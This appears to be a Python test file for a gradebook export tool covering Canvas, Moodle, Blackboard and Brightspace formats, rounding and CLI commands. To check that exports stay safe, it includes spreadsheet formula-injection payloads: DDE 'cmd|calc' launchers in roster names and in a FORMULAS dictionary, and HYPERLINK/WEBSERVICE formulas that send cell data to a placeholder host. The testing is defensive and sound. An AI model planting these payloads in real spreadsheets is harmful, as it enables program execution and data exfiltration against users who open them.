"""Files for learning management systems: only the cells of the assignment differ from what they gave out."""

import csv
import io
import re

import pytest
from openpyxl import load_workbook

from cxkit.cli import main
from cxkit.coursework.gradebook import AssignmentSettings, Grade
from cxkit.coursework.gradebook.exports import (
    FORMULA_SIGNS,
    as_csv,
    as_written,
    as_xlsx,
    filled,
    for_nbgrader,
    from_roster,
    harmless,
    overview,
)  # fmt: skip
from cxkit.coursework.gradebook.grades import Total
from cxkit.coursework.marks.folder import write_marks
from cxkit.coursework.marks.points import points_text
from cxkit.coursework.people.roster import Student, read_roster, roster_of
from cxkit.errors import MarkingError
from tests.coursework.test_gradebook import marks

HW1 = AssignmentSettings(id="hw1", title="Homework 1", points=10)
ROSTER = roster_of(
    [
        Student(id="s100", name="Jane Smith", login="jsmith", lms_id="4711", email="jane@uni.example",
                section="Lab 1", sortable_name="Smith, Jane"),
        Student(id="s200", name="Zoë Löwe", login="zlowe", lms_id="4712", email="zoe@uni.example",
                sortable_name="Löwe, Zoë"),
        Student(id="s300", name="=cmd|'/c calc'!A1", login="eve", lms_id="4713", email="+eve@uni.example",
                sortable_name="=cmd|'/c calc'!A1"),
        Student(id="s400", name="Ann Other", login="ann", lms_id="4714", email="ann@uni.example"),
    ]
)  # fmt: skip
GRADES = (
    Grade(student="s100", assignment="hw1", points=7.125, out_of=10, earned=7.125),
    Grade(student="s200", assignment="hw1", points=0.0, out_of=10, state="missing"),
    Grade(student="s300", assignment="hw1", points=3.0, out_of=10, earned=3, state="awaiting"),
    Grade(student="s400", assignment="hw1", points=None, out_of=10, state="excused"),
)

CANVAS = (
    "Student,ID,SIS User ID,SIS Login ID,Section,Homework 1 (881),Homework 2 (882),Final Score\r\n"
    ",,,,,Manual Posting,,\r\n"
    "    Points Possible,,,,,10.00,10.00,(read only)\r\n"
    '"Smith, Jane",4711,s100,jsmith,"Lab 1 and Lab 2",,,55.0\r\n'
    '"Löwe, Zoë",4712,s200,zlowe,Lab 1,3.00,9.00,\r\n'
    '"=cmd",4713,s300,eve,Lab 1,1,,\r\n'
    '"Other, Ann",4714,s400,ann,Lab 1,,,\r\n'
    '"Student, Test",4799,,f1e2d3,Lab 1,,,\r\n'
)
MOODLE_SHEET = (
    "Identifier,Full name,Email address,Status,Grade,Maximum Grade,Grade can be changed,Last modified (submission),"
    "Last modified (grade),Feedback comments\n"
    'Participant 77,Jane Smith,jane@uni.example,Submitted for grading,,10.00,Yes,"Sunday, 1 March 2026, 10:15 AM",-,\n'
    "Participant 78,Zoë Löwe,zoe@uni.example,No submission,,10.00,Yes,-,-,\n"
)
MOODLE_BOOK = (
    "First name,Last name,ID number,Email address,Assignment: Homework 1 (Real),Course total (Real)\n"
    "Jane,Smith,s100,jane@uni.example,-,-\nZoë,Löwe,s200,zoe@uni.example,-,-\n"
)
BLACKBOARD = (
    '"Last Name"\t"First Name"\t"Username"\t"Student ID"\t"Last Access"\t"Availability"\t'
    '"Homework 1 [Total Pts: 10 Score] |118854"\t"Total [Total Pts: up to 30 Score] |118001"\r\n'
    '"Smith"\t"Jane"\t"jsmith"\t"s100"\t"2026-03-01 10:15:30"\t"Yes"\t""\t"5"\r\n'
    '"Löwe"\t"Zoë"\t"zlowe"\t"s200"\t""\t"Yes"\t""\t"5"\r\n'
)
BRIGHTSPACE = (
    "OrgDefinedId,Username,Last Name,First Name,Homework 1 Points Grade <Numeric MaxPoints:10 Weight:5>,"
    "End-of-Line Indicator\r\n"
    "#s100,#jsmith,Smith,Jane,,#\r\n#s200,#zlowe,Löwe,Zoë,,#\r\n"
)
FILES = {
    "canvas": (CANVAS, "utf-8-sig", [("Lab 2\",,", "Lab 2\",7.13,"), ("Lab 1,3.00,", "Lab 1,0,"),
                                     ("ann,Lab 1,,", "ann,Lab 1,EX,")]),
    "moodle worksheet": (MOODLE_SHEET, "utf-8", [("for grading,,", "for grading,7.13,"),
                                                  ("submission,,1", "submission,0,1")]),
    "moodle gradebook": (MOODLE_BOOK, "utf-8", [("jane@uni.example,-", "jane@uni.example,7.13"),
                                                ("zoe@uni.example,-", "zoe@uni.example,0")]),
    "blackboard": (BLACKBOARD, "utf-16", [('15:30"\t"Yes"\t""', '15:30"\t"Yes"\t"7.13"'),
                                          ('"s200"\t""\t"Yes"\t""', '"s200"\t""\t"Yes"\t"0"')]),
    "brightspace": (BRIGHTSPACE, "utf-8-sig", [("Jane,,#", "Jane,7.13,#"), ("Zoë,,#", "Zoë,0,#")]),
}  # fmt: skip


@pytest.mark.parametrize("system", FILES)
def test_a_file_of_a_system_is_filled_and_nothing_else_in_it_changes(system, tmp_path):
    text, encoding, changes = FILES[system]
    path = tmp_path / "gradebook.csv"
    path.write_bytes(text.encode(encoding))
    export = filled(path, GRADES, HW1, ROSTER)
    for old, new in changes:
        assert text.count(old) == 1
        text = text.replace(old, new)
    assert export.data == text.encode(encoding)
    assert "1 student left out, whose answers wait for a marker: s300." in export.notes
    path.write_bytes(export.data)
    assert filled(path, GRADES, HW1, ROSTER).data == export.data


def test_rows_and_students_without_their_other_are_told(tmp_path):
    path = tmp_path / "g.csv"
    path.write_text(MOODLE_BOOK + "Bob,Lee,s900,bob@uni.example,-,-\n", encoding="utf-8")
    notes = filled(path, GRADES, HW1, ROSTER).notes
    assert "Row 4 (Bob Lee) is nobody of the roster: left as it is." in notes
    assert "Not in g.csv: s300, s400." in notes


def test_keys_that_fit_two_people_fit_nobody(tmp_path):
    path = tmp_path / "g.csv"
    path.write_text(MOODLE_BOOK.replace("s100,jane@", "s100,zoe@"), encoding="utf-8")
    export = filled(path, GRADES, HW1, ROSTER)
    assert b"s100,zoe@uni.example,-" in export.data
    assert any("Row 2" in note for note in export.notes)


def test_another_maximum_is_refused_or_converted(tmp_path):
    path = tmp_path / "g.csv"
    path.write_text(BRIGHTSPACE.replace("MaxPoints:10", "MaxPoints:100"), encoding="utf-8")
    with pytest.raises(MarkingError, match="has 100 points for 'Homework 1', the assignment 10"):
        filled(path, GRADES, HW1, ROSTER)
    assert b"Jane,71.25,#" in filled(path, GRADES, HW1, ROSTER, scale=True).data


def test_the_column_is_found_by_name_or_asked_for(tmp_path):
    path = tmp_path / "g.csv"
    path.write_text(CANVAS, encoding="utf-8")
    with pytest.raises(MarkingError, match="no column 'Homework 9'(?s:.*)Did you mean 'Homework"):
        filled(path, GRADES, HW1, ROSTER, column="Homework 9")
    with pytest.raises(MarkingError, match="no column 'Final Score'"):
        filled(path, GRADES, HW1, ROSTER, column="Final Score")
    assert b'Lab 2",,7.13,55.0' in filled(path, GRADES, HW1, ROSTER, column="Homework 2 (882)").data
    path.write_text(CANVAS.replace("Homework 2", "Homework 1"), encoding="utf-8")
    with pytest.raises(MarkingError, match="2 columns"):
        filled(path, GRADES, HW1, ROSTER)
    path.write_text("a,b\n1,2\n", encoding="utf-8")
    with pytest.raises(MarkingError, match="not a gradebook of Canvas"):
        filled(path, GRADES, HW1, ROSTER)


def rows_of(export):
    return list(csv.reader(io.StringIO(export.data.decode("utf-8"))))


def test_canvas_from_the_roster():
    header, possible, jane, zoe, eve, ann = rows_of(
        from_roster("canvas", GRADES, HW1, ROSTER, column="Homework 1 (881)")
    )
    assert header == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Homework 1 (881)"]
    assert possible == ["    Points Possible", "", "", "", "", "10"]
    assert jane == ["Smith, Jane", "4711", "s100", "jsmith", "Lab 1", "7.13"]
    assert zoe[-1] == "0"
    assert eve == ["'=cmd|'/c calc'!A1", "4713", "s300", "eve", "", ""]
    assert ann[-1] == "EX"


def test_brightspace_from_the_roster():
    rows = rows_of(from_roster("brightspace", GRADES, HW1, ROSTER))
    assert rows[0] == ["OrgDefinedId", "Homework 1 Points Grade", "End-of-Line Indicator"]
    assert rows[1] == ["#s100", "7.13", "#"]
    assert {row[-1] for row in rows[1:]} == {"#"}


def test_moodle_from_the_roster():
    rows = rows_of(from_roster("moodle", GRADES, HW1, ROSTER))
    assert rows[:2] == [["ID number", "Email address", "Homework 1"], ["s100", "jane@uni.example", "7.13"]]
    assert rows[3] == ["s300", "", ""]  # the address would be computed by a spreadsheet


def test_blackboard_from_the_roster():
    column = "Homework 1 [Total Pts: 10 Score] |118854"
    export = from_roster("blackboard", GRADES, HW1, ROSTER, column=column)
    assert rows_of(export)[:2] == [
        ["Last Name", "First Name", "Username", "Student ID", column],
        ["Smith", "Jane", "jsmith", "s100", "7.13"],
    ]
    assert all(line.startswith('"') for line in export.data.decode().splitlines())
    assert any("new column of text" in note for note in from_roster("blackboard", GRADES, HW1, ROSTER).notes)


@pytest.mark.parametrize("system", ["canvas", "moodle", "blackboard", "brightspace"])
def test_a_file_made_from_the_roster_is_read_back_as_the_same_class(system, tmp_path):
    column = "Homework 1 [Total Pts: 10 Score] |1" if system == "blackboard" else "Homework 1 (881)"
    export = from_roster(system, GRADES, HW1, ROSTER, column=column)
    path = tmp_path / "made.csv"
    path.write_bytes(export.data)
    assert {student.id for student in read_roster(path)} == {student.id for student in ROSTER}
    again = filled(
        path, GRADES, HW1, ROSTER, column="Homework 1 (881)" if system in {"brightspace", "moodle"} else None
    )
    assert again.data == export.data


# What a stranger wants a spreadsheet to do, and the name or note that has it do so
FORMULAS = {
    "compute": "=1+1", "compute by a plus": "+1", "compute by a minus": "-1", "compute by an at": "@SUM(A1)",
    "compute after a tab": "\t=1", "compute after a carriage return": "\r=1", "compute after a line end": "\n=1",
    "start a program": "=cmd|'/C calc'!A0", "start a program by a minus": "-2+3+cmd|'/C calc'!A0",
    "start a program from a name": "Li; Wei;=cmd|'/C calc'!A0;", "send marks away": '=HYPERLINK("https://x.example/"&A1)',
    "send marks away from a later cell": 'a;=WEBSERVICE("https://x.example/"&B1);b', "begin a cell at a tab": "a\t=1+1",
    "begin a row at a line end": "a\n=1+1", "begin a row at a carriage return": "a\r@SUM(A1)",
    "compute by wide letters": "\uff1d1+1", "compute by a wide plus": "\uff0b1",
    "compute after a semicolon": "a;\uff1d1+1",
}  # fmt: skip


def is_computed(text, separator):
    """Whether a spreadsheet with this separator, which knows no quotes within a cell, finds a formula."""
    cells = [cell for line in text.splitlines() for cell in line.split(separator)]
    return any(cell.startswith(FORMULA_SIGNS) and not re.fullmatch(r"-?[\d.]+", cell) for cell in cells) or (
        text.startswith(FORMULA_SIGNS)
    )


@pytest.mark.parametrize("text", FORMULAS.values(), ids=FORMULAS)
def test_formulas_of_strangers_stay_texts(text, tmp_path):
    assert any(is_computed(text, separator) for separator in ",;\t"), "the attack itself is broken"
    assert as_written(harmless(text)) == text
    roster = roster_of([Student(id="s1", name=text, section=text, sortable_name=text, email=text, login="")])
    grades = [Grade(student="s1", assignment="hw1", points=1.0, out_of=10, note=text)]
    table = overview(grades, [Total(student="s1", share=0.1)], {"hw1": HW1}, roster)
    made = [from_roster(system, grades, HW1, roster) for system in ("canvas", "moodle", "blackboard", "brightspace")]
    for export in (*made, as_csv(*table), for_nbgrader(grades, roster)):
        for row in csv.reader(io.StringIO(export.data.decode(), newline="")):
            assert not [cell for cell in row if cell.startswith(FORMULA_SIGNS)]
        assert not [separator for separator in ",;\t" if is_computed(export.data.decode(), separator)]
    book = load_workbook(as_xlsx(tmp_path / "grades.xlsx", *table))
    assert {cell.data_type for row in book.active.iter_rows() for cell in row} <= {"s", "n"}


@pytest.mark.parametrize(
    ("points", "text"),
    [
        (7, "7"), (7.125, "7.13"), (7.5, "7.5"), (0.0, "0"), (-0.0, "0"), (100, "100"), (2.675, "2.68"), (1000, "1000"),
        (17.325, "17.33"), (24.75 - 7.425, "17.33"), (7.005, "7.01"), (-7.425, "-7.42"), (-0.004, "0"), (1e-9, "0"),
    ],
)  # fmt: skip
def test_points_are_rounded_as_people_do(points, text):
    assert points_text(points) == text


def test_nbgraders_columns():
    excused = Grade(student="s400", assignment="hw2", points=None, out_of=10, earned=8, penalty=1.6, state="excused")
    header, jane, *others = rows_of(for_nbgrader([*GRADES, excused], ROSTER))
    assert [row[3] for row in others] == ["s200"]  # neither who waits for a marker nor who is excused
    assert header == [
        "assignment", "duedate", "timestamp", "student_id", "last_name", "first_name", "email", "raw_score",
        "late_submission_penalty", "score", "max_score",
    ]  # fmt: skip
    assert jane == ["hw1", "", "", "s100", "Smith", "Jane", "jane@uni.example", "7.13", "0", "7.13", "10"]


def test_worksheets_in_other_languages_and_without_names_are_filled(tmp_path):
    german = (
        "ID;Vollständiger Name;E-Mail-Adresse;Status;Bewertung;Bestwertung;Bewertung kann geändert werden;"
        "Zuletzt geändert (Abgabe);Zuletzt geändert (Bewertung)\n"
        "Teilnehmer/in77;Jane Smith;jane@uni.example;Abgegeben;;10,00;Ja;Sonntag, 1. März 2026, 10:15;-\n"
    )
    (tmp_path / "g.csv").write_text(german, encoding="utf-8")
    assert filled(tmp_path / "g.csv", GRADES[:1], HW1, ROSTER).data.decode() == german.replace(
        "Abgegeben;;", "Abgegeben;7.13;"
    )
    assert [one.id for one in read_roster(tmp_path / "g.csv")] == ["77"]
    blind = "Identifiant,Statut,Note,Note maximale,La note peut être modifiée\nParticipant 4711,Remis,,10.00,Oui\n"
    (tmp_path / "b.csv").write_text(blind, encoding="utf-8")
    assert filled(tmp_path / "b.csv", GRADES[:1], HW1, ROSTER).data.decode() == blind.replace("Remis,,", "Remis,7.13,")


def test_the_overview_is_the_same_in_excel(tmp_path):
    table = overview(GRADES, [Total(student="s100", share=0.7125)], {"hw1": HW1}, ROSTER)
    sheet = load_workbook(as_xlsx(tmp_path / "grades.xlsx", *table)).active
    assert [cell.value for cell in sheet[1]] == table[0]
    assert [cell.value for cell in sheet[2]] == ["s100", "Jane Smith", "Lab 1", 7.13, 71.25, None, None]
    assert sheet["D5"].value is None


def test_the_commands(tmp_path, capsys, monkeypatch):
    from cxkit.coursework.assignment.reading import read_assignment
    from tests.coursework.small_assignment import write_assignment

    monkeypatch.chdir(tmp_path)
    assignment = read_assignment(write_assignment(tmp_path))
    (tmp_path / "class.csv").write_text("student,name\ns1,Jane Smith\ns2,Zoe Lowe\n", encoding="utf-8")
    out_of = float(assignment.points)
    write_marks(tmp_path / "marks", [marks(s, 2, assignment.id, s, out_of) for s in ("s1", "s2")])
    record = ["gradebook", "record", str(assignment.folder), "marks"]
    assert main(record) == 0
    assert main(record) == 0
    assert main(["gradebook", "override", assignment.id, "s1", "--points", "3", "--reason", "Appeal", "--by", "A"]) == 0
    out = capsys.readouterr().out
    assert "2 marks recorded, 0 were there" in out
    assert "0 marks recorded, 2 were there" in out
    assert main(["gradebook", "show", "--student", "s1"]) == 0
    assert "Set by hand: Appeal (A)" in capsys.readouterr().out
    assert main(["gradebook", "history", "--student", "s1"]) == 0
    first, second = [line.split("\t") for line in capsys.readouterr().out.splitlines()]
    assert (first[3], second[3]) == (f"2 of {out_of:g}", f"3 of {out_of:g}")
    assert (first[6:], second[6:]) == (["lateness not known", ""], ["", "Appeal"])
    for to in ("canvas", "moodle", "blackboard", "brightspace", "csv", "xlsx", "nbgrader"):
        arguments = ["--to", to, "--roster", "class.csv", "--assignment", assignment.id, "-o", f"out/{to}"]
        assert main(["gradebook", "export", *arguments]) == 0
        assert (tmp_path / "out" / to).stat().st_size
    assert main(["gradebook", "export", "--roster", "class.csv", "-o", "x"]) == 1
    assert main(["gradebook", "policy", "--attempts", "best", "--reason", "announced", "--by", "A"]) == 0
    capsys.readouterr()
    assert main(["gradebook", "policy", "--drop-lowest", "1", "--reason", "announced", "--by", "A"]) == 0
    assert "attempts: best, dropped: 1" in capsys.readouterr().out  # one rule does not take the other back
    write_marks(tmp_path / "marks", [marks(s, 0, assignment.id, "", out_of, "refused") for s in ("s1", "s2")])
    assert main(["gradebook", "policy", "--attempts", "latest", "--reason", "announced", "--by", "A"]) == 0
    assert main(record) == 1
    assert "would fall to 0:\n  s1: 2 points now\n  s2: 2 points now" in capsys.readouterr().err
    assert main([*record, "--may-be-zero", "s1", "--may-be-zero", "s2"]) == 0
    assert "fell: s2, 2 -> 0 points" in capsys.readouterr().out
    assert main(["gradebook", "show", "-g", "none.db"]) == 1
